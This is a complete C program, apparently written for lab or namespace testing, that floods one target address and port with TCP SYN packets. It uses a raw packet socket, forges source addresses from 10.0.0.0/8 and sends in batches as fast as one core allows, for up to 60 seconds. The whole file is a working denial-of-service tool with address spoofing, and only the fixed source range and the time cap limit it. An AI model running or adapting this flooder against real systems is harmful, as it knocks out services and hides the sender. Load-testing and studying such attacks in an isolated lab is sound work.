/* A flood from forged sources, as fast as one core sends: SYNs to one address and port, from any of
 * the 16 million addresses of 10.0.0.0/8. For the range's own namespaces; it stops by itself.
 *
 *   flood DEVICE MAC ADDRESS PORT SECONDS
 *
 * MAC: of the target, or of the gateway to it. SECONDS: at most 60. Prints how many were sent. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, SECONDS_MAX = 60 };

struct __attribute__((packed)) syn {
	struct ether_header ether;
	struct iphdr ip;
	struct tcphdr tcp;
};

static struct syn frames[BATCH];
static struct mmsghdr messages[BATCH];
static struct iovec pieces[BATCH];

static void die(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static uint32_t sum_words(const void *data, size_t size)
{
	const uint8_t *byte = data;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < size; i += 2)
		sum += (uint32_t)byte[i] << 8 | byte[i + 1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* What is the same in all of them. */
static void frame_init(struct syn *f, const char *mac, const char *address, int port)
{
	unsigned m[6];

	if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6 ||
		inet_pton(AF_INET, address, &f->ip.daddr) != 1) {
		fprintf(stderr, "flood: '%s' or '%s' is no address\n", mac, address);
		exit(2);
	}
	for (int i = 0; i < 6; i++)
		f->ether.ether_dhost[i] = (uint8_t)m[i];
	f->ether.ether_shost[0] = 2;
	f->ether.ether_type = htons(ETHERTYPE_IP);
	f->ip.version = 4;
	f->ip.ihl = 5;
	f->ip.tot_len = htons(sizeof(f->ip) + sizeof(f->tcp));
	f->ip.ttl = 64;
	f->ip.protocol = IPPROTO_TCP;
	f->tcp.dest = htons((uint16_t)port);
	f->tcp.doff = 5;
	f->tcp.syn = 1;
	f->tcp.window = htons(64240);
}

static void frame_forge(struct syn *f, uint64_t *seed)
{
	uint32_t sum;

	*seed = *seed * 6364136223846793005u + 1442695040888963407u;
	f->ip.saddr = htonl(0x0a000000 | (uint32_t)(*seed >> 40));
	f->tcp.source = htons((uint16_t)(1024 + (*seed >> 20) % 64000));
	f->tcp.seq = (uint32_t)(*seed >> 8);
	f->ip.check = 0;
	f->ip.check = fold(sum_words(&f->ip, sizeof(f->ip)));
	f->tcp.check = 0;
	sum = sum_words(&f->ip.saddr, 8) + IPPROTO_TCP + sizeof(f->tcp);
	f->tcp.check = fold(sum + sum_words(&f->tcp, sizeof(f->tcp)));
}

static int open_device(const char *device)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), yes = 1;

	to.sll_ifindex = (int)if_nametoindex(device);
	if (s < 0 || !to.sll_ifindex || bind(s, (struct sockaddr *)&to, sizeof(to)) < 0)
		die(device);
	setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes));
	return s;
}

int main(int argc, char **argv)
{
	uint64_t seed = (uint64_t)time(NULL) << 20 | (uint64_t)getpid(), sent = 0;
	double end;
	int s;

	if (argc != 6 || atoi(argv[5]) < 1 || atoi(argv[5]) > SECONDS_MAX) {
		fprintf(stderr, "usage: flood DEVICE MAC ADDRESS PORT SECONDS (at most %d)\n",
			SECONDS_MAX);
		return 2;
	}
	s = open_device(argv[1]);
	for (int i = 0; i < BATCH; i++) {
		frame_init(&frames[i], argv[2], argv[3], atoi(argv[4]));
		pieces[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		messages[i].msg_hdr.msg_iov = &pieces[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	end = now_s() + atoi(argv[5]);
	while (now_s() < end) {
		int n;

		for (int i = 0; i < BATCH; i++)
			frame_forge(&frames[i], &seed);
		n = sendmmsg(s, messages, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			die(argv[1]);
		sent += n > 0 ? (uint64_t)n : 0;
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
